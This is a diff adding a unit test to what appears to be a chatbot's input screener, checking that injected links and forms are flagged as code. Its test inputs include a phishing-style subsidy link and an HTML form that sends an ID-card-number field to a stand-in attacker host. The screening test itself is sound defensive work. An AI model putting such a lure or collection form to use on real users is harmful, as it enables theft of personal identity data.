@@ -36,6 +36,12 @@ def test_control_characters_markup_and_surrogates_are_dropped():
     assert screen("加装\r\n电梯").text == "加装 电梯"
 
 
+def test_a_link_or_form_to_elsewhere_is_marked_as_code():
+    assert guard.CODE_MARK in screen('<a href="http://hz-gov.example">领取托育补贴</a>').text
+    assert guard.CODE_MARK in screen("<form action=//evil.example/collect>身份证号</form>").text
+    assert screen("<b>托位</b>有多少").text == "托位 有多少"  # formatting only
+
+
 def test_only_our_own_button_payloads_pass_as_payloads():
     assert screen('/choose_faq{"faq_id":"12"}').text == '/choose_faq{"faq_id":"12"}'
     assert screen("/ask_rental").text == "/ask_rental"
